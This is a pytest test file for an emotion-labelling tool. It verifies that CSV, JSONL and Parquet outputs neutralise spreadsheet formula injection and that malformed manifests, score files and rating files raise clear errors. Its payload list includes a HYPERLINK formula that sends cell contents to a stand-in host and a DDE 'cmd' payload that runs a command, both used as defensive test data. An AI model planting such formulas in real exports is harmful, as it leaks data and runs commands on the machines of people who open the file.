"""Tables that others open: no cell is a formula to a spreadsheet; and label files that are wrong."""

import csv
import io
import json

import pyarrow.parquet as parquet
import pytest

from cli_runs import bundles_fixture, place_fixture, run_fixture  # noqa: F401 (fixtures)
from moodreel.errors import DataError
from moodreel.lab.data.gifgif import read_scores
from moodreel.lab.data.manifest import Row, read_manifest, write_manifest
from moodreel.lab.train import _check_leaks
from moodreel.labels.rows import mark_text, unmark_text
from moodreel.runtime.table import list_columns, make_row, open_table
from moodreel.runtime.trace_files import read_ratings
from moodreel.types import Result
from runtime.tiny import RED, draw_gif

FORMULAS = [
    '=HYPERLINK("http://example.org?"&A1,"see")', "+1+1", "-1+1", "@SUM(A1)", "\tx", "\rx", "\nx",
    "=cmd|' /C calc'!A0", "'=1+1", "''=x", "-", "=",
]  # fmt: skip
PLAIN = [
    "a.gif",
    "",
    "o'clock",
    "a=1",
    "1-2",
    " =x",
    "'tis",
    "'",
    "''x",
    "a\rb",
    "a\nb,c",
    "é",
    "/x/-1.gif",
    "0",
]


def starts_a_formula(cell):
    """As OWASP's page on CSV injection lists the characters."""
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r", "\n") and cell != ""


@pytest.mark.parametrize("text", FORMULAS + PLAIN)
def test_marks_come_off_again(text):
    cell = mark_text(text)
    assert not starts_a_formula(cell)
    assert unmark_text(cell) == text
    assert (cell == text) == (text in PLAIN)


@pytest.mark.parametrize("suffix", [".csv", ".jsonl", ".parquet"])
def test_result_tables(tmp_path, suffix):
    columns = list_columns("kavan", per_frame=True)
    results = [Result(name, name or "m", "1", error=name or None, valence=-0.5) for name in FORMULAS + PLAIN]
    with open_table(tmp_path / f"t{suffix}", columns) as writer:
        for result in results:
            writer.write(make_row(result, columns))
    if suffix == ".csv":
        rows = list(csv.DictReader(io.StringIO((tmp_path / "t.csv").read_bytes().decode(), newline="")))
        for row in rows:
            for name, cell in row.items():
                assert not starts_a_formula(cell) or (name == "valence" and float(cell) == -0.5)
        assert [unmark_text(row["path"]) for row in rows] == FORMULAS + PLAIN
        assert [unmark_text(row["error"]) for row in rows] == FORMULAS + PLAIN
    else:  # no spreadsheet computes in these: the text as it is
        if suffix == ".jsonl":
            rows = [json.loads(line) for line in (tmp_path / "t.jsonl").read_text("utf-8").splitlines()]
        else:
            rows = parquet.read_table(tmp_path / "t.parquet").to_pylist()
        assert [row["path"] for row in rows] == FORMULAS + PLAIN


def test_files_named_like_formulas_keep_their_rows(run, place, monkeypatch):
    names = ["=1+1.gif", "+x.gif", "@y.gif", "'=z.gif", "plain.gif"]
    for name in names:
        draw_gif(place / "odd" / name, RED)
    (place / "odd" / "-dash.gif").write_text("none")
    with_bad = sorted([*names, "-dash.gif"])
    for suffix in (".csv", ".jsonl"):
        run("predict", "odd", "--out", f"whole{suffix}")
        run("predict", "odd", "--out", "parts", "--resume")
        assert "6 inputs" in run.err
        run("merge", "parts", "--out", f"merged{suffix}")
        assert (place / f"merged{suffix}").read_bytes() == (place / f"whole{suffix}").read_bytes()

    monkeypatch.chdir(place / "odd")
    run("predict", *(f"./{name}" if name.startswith("-") else name for name in with_bad), "--out", "t.csv")
    rows = list(csv.DictReader(io.StringIO((place / "odd" / "t.csv").read_text("utf-8"))))
    assert [row["path"] for row in rows] == ["''=z.gif", "'+x.gif", "./-dash.gif", "'=1+1.gif", "'@y.gif",
                                             "plain.gif"]  # fmt: skip


def test_scores_of_votes(run, place):
    votes = "emotion,left,right,choice\n" + 'anger,=1+1,"@x",left\nanger,\'tis,@x,right\nfear,+a,-b,left\n'
    (place / "votes.csv").write_text(votes)
    run("votes", "score", "votes.csv", "--out", "scores.csv")
    assert run.code == 0
    rows = list(csv.DictReader(io.StringIO((place / "scores.csv").read_text("utf-8"))))
    assert {row["item"] for row in rows} == {"'=1+1", "'@x", "'tis", "'+a", "'-b"}
    scores, problems = read_scores(place / "scores.csv")
    assert set(scores) == {"=1+1", "@x", "'tis", "+a", "-b"}
    assert problems == []


HEAD = "clip,group,split,score_anger,label_ekman\n"


@pytest.mark.parametrize(
    ("text", "message"),
    [
        (HEAD + "a,g,train,0,\nb,g,train,,\n./a,h,test,1,\n", ":4: clip './a' stands in line 2 already"),
        (HEAD + "a,g,train,,\na,g,train,,\n", ":3: clip 'a' stands in line 2 already"),
        (HEAD + "a,g,train,nan,\n", ":2: score_anger = 'nan': expected a number in [-1, 1]"),
        (HEAD + "a,g,train,inf,\n", ":2: score_anger = 'inf'"),
        (HEAD + "a,g,train,1.01,\n", ":2: score_anger = '1.01'"),
        (HEAD + "a,g,train,1e999,\n", ":2: score_anger = '1e999'"),
        (HEAD + "a,g,train,,joy\n", ":2: label_ekman = 'joy': not in the vocabulary"),
        (HEAD + "a,g,train,,\nb,g,test,,\n", ":3: group 'g' stands in train and test: a leak"),
        (HEAD + "a,g,dev,,\n", ":2: split = 'dev'"),
        (HEAD + "a,g,train\n", ":2: 5 cells expected"),
        (HEAD + f'a,g,train,,"{"x" * 200_000}"\n', ":1: cannot be read: field larger than field limit"),
        (HEAD + f'"{"x" * 200_000}\n', "cannot be read: field larger than field limit"),
        ("clip,group,group\na,g,h\n", ": column 'group' stands there twice"),
        ("", ": column 'clip' is missing (got none)"),
    ],
)
def test_manifests_that_are_wrong(tmp_path, text, message):
    path = tmp_path / "m.csv"
    path.write_text(text, "utf-8")
    with pytest.raises(DataError) as caught:
        read_manifest(path)
    assert str(caught.value).startswith(f"{path}{message}" if message.startswith(":") else str(path))
    assert message in str(caught.value)
    assert "\n" not in str(caught.value)


@pytest.mark.parametrize("encoding", ["utf-16", "utf-32", "latin-1"])
def test_other_encodings(tmp_path, encoding):
    for name, reader in (("m.csv", read_manifest), ("s.csv", read_scores), ("t.csv", read_ratings)):
        (tmp_path / name).write_bytes((HEAD + "é,g,train,,\n").encode(encoding))
        with pytest.raises(DataError) as caught:
            reader(tmp_path / name)
        assert "\n" not in str(caught.value)


def test_huge_cells_elsewhere(tmp_path):
    (tmp_path / "s.csv").write_text(f'item,emotion,score\n"{"x" * 200_000}",anger,0\n')
    with pytest.raises(DataError, match="cannot be read: field larger"):
        read_scores(tmp_path / "s.csv")
    (tmp_path / "t.csv").write_text(f'time_s,gold\n0,"{"1" * 200_000}"\n')
    with pytest.raises(DataError, match="field larger"):
        read_ratings(tmp_path / "t.csv")


def test_one_clip_in_two_splits_of_two_manifests(tmp_path):
    clip = tmp_path / "a.gif"
    for name, split in (("one", "train"), ("two", "test")):
        write_manifest(tmp_path / f"{name}.csv", [Row(clip, f"group {name}", split)])
    manifests = [read_manifest(tmp_path / f"{name}.csv") for name in ("one", "two")]
    with pytest.raises(
        DataError, match=r"clip .*a\.gif is train in .*one\.csv and test in .*two\.csv: a leak"
    ):
        _check_leaks(manifests)
